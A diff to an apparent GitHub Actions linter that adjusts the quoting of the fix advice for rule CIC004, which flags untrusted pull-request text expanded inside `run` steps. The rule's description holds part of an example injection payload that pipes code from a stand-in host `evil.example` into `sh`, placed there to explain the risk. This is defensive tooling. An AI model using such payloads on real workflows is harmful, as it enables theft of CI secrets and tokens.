@@ -195,7 +195,7 @@ void check_text(DeliveryCheck& check, const Read<Workflow>& workflow, const Mapp
       const std::string_view variable = way.text->variable;
       const bool shell = where.starts_with("shell");
       draft.fix(
-          "Hand it over as data: `env: { {}: ${{ {} }} }` in the step, and `{}{}{}` in the script.",
+          "Hand it over as data: `env: {{}: '${{ {} }}'}` in the step, and `{}{}{}` in the script.",
           {variable, expression.text, shell ? "\"$" : "process.env.", variable, shell ? "\"" : ""});
     }
   }
@@ -269,7 +269,7 @@ extern constinit const Rule CIC004 = {
         "evil.example|sh)` "
         "runs with the workflow's secrets and its token.",
     .advice =
-        "Hand it over as data: `env: { TITLE: ${{ … }} }` beside `run`, and `\"$TITLE\"` in the "
+        "Hand it over as data: `env: {TITLE: '${{ … }}'}` beside `run`, and `\"$TITLE\"` in the "
         "script.",
     .docs = R"md(
 Titles, bodies, branch names and commit messages in `${{ … }}` of a `run` or of actions/github-script; and the checkout of a pull request's head in
